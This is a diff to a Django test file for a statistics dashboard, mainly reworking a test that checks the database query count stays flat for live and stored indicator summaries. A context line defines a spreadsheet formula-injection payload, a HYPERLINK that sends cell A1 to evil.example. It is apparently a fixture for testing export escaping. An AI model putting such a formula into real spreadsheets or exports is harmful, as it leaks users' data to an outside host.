@@ -13,7 +13,10 @@ from kotopolku.audit.models import AuditEvent
 from kotopolku.common.exports import csv_bytes, escape_formula, xlsx_bytes
 from kotopolku.organisations.models import Organisation
 from kotopolku.rules.models import StatutoryRule
+from kotopolku.statistics import summaries
+from kotopolku.statistics.models import IndicatorSummary
 from kotopolku.statistics.selectors import INDICATORS
+from kotopolku.statistics.selectors import TABLES as INDICATOR_TABLES
 from kotopolku.statistics.tests.factories import build_year, municipality
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Avaa")'
@@ -153,14 +156,24 @@ def test_dashboard_document_is_the_same_chart_in_html_and_pdf(
 
 
 def test_query_count_does_not_grow_with_the_data(demo, client_for):
+    """Computed live (nothing stored) and read from the summary table (its tables not yet
+    built in this process), with no data and with the year's."""
     viewer = client_for("viewer")
-    viewer.get("/statistics/?period=2025")
-    with CaptureQueriesContext(connection) as empty:
-        viewer.get("/statistics/?period=2025")
+    viewer.get("/statistics/?period=2025")  # the session's first request writes more
+
+    def counts() -> tuple[int, int]:
+        IndicatorSummary.objects.all().delete()
+        with CaptureQueriesContext(connection) as live:
+            viewer.get("/statistics/?period=2025")
+        summaries._REPLAYED.clear()
+        with CaptureQueriesContext(connection) as stored:
+            response = viewer.get("/statistics/?period=2025")
+        assert response.context["computed"].from_summary == len(INDICATOR_TABLES)
+        return len(live.captured_queries), len(stored.captured_queries)
+
+    empty = counts()
     build_year()
-    with CaptureQueriesContext(connection) as full:
-        viewer.get("/statistics/?period=2025")
-    assert len(full.captured_queries) == len(empty.captured_queries)
+    assert counts() == empty
 
 
 def test_monitoring_list_search_and_empty_state(demo, client_for):
